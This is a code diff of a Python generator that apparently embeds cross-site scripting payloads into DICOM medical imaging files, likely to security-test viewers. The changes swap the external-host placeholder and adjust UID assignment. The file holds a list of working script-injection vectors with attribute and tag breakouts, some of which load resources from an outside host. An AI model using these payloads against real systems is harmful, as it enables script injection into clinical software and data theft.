@@ -18,12 +18,12 @@ _VECTORS = (
     "<script>J</script>",
     "<SCRIPT>J</SCRIPT>",
     "<script>J",
-    "<script src=E/x></script>",
+    "<script src=@/x></script>",
     "<scr<script>ipt>J</script>",
     "<img src=x onerror=J>",
     "<img/src=x/onerror=J>",
     "<img srcset=x onerror=J>",
-    "<img src=E/x.png>",
+    "<img src=@/x.png>",
     "<svg onload=J>",
     "<svg><script>J</script></svg>",
     "<svg><animate onbegin=J attributeName=x>",
@@ -42,10 +42,10 @@ _VECTORS = (
     "<embed src=javascript:J>",
     "<form action=javascript:J><button autofocus>",
     "<math href=javascript:J>x",
-    "<style>@import'E'</style>",
-    "<link rel=stylesheet href=E>",
-    "<meta http-equiv=refresh content='0;E'>",
-    "<base href=E>",
+    "<style>@import'@'</style>",
+    "<link rel=stylesheet href=@>",
+    "<meta http-equiv=refresh content='0;@'>",
+    "<base href=@>",
     "<template><script>J</script>",
     "<noscript><img src=x onerror=J>",
     "<x onfocus=J tabindex=1 autofocus>",
@@ -58,7 +58,7 @@ _VECTORS = (
 )
 _WAYS_OUT = ("", '">', "'></title></textarea>-->")
 PAYLOADS = tuple(
-    way + vector.replace("J", SCRIPT).replace("E", ELSEWHERE)
+    way + vector.replace("J", SCRIPT).replace("@", ELSEWHERE)
     for way in _WAYS_OUT
     for vector in _VECTORS
 )
@@ -123,7 +123,8 @@ def _put(ds: Dataset, keyword: str, value: str) -> None:
 def _filed(ds: Dataset, number: int) -> bytes:
     ds.StudyInstanceUID = study_uid(number)
     ds.SeriesInstanceUID = uid("payload", number, 1)
-    ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = uid("payload", number, 1, 1)
+    ds.SOPInstanceUID = uid("payload", number, 1, 1)
+    ds.file_meta.MediaStorageSOPInstanceUID = ds.SOPInstanceUID
     buffer = BytesIO()
     ds.save_as(buffer)
     return buffer.getvalue()
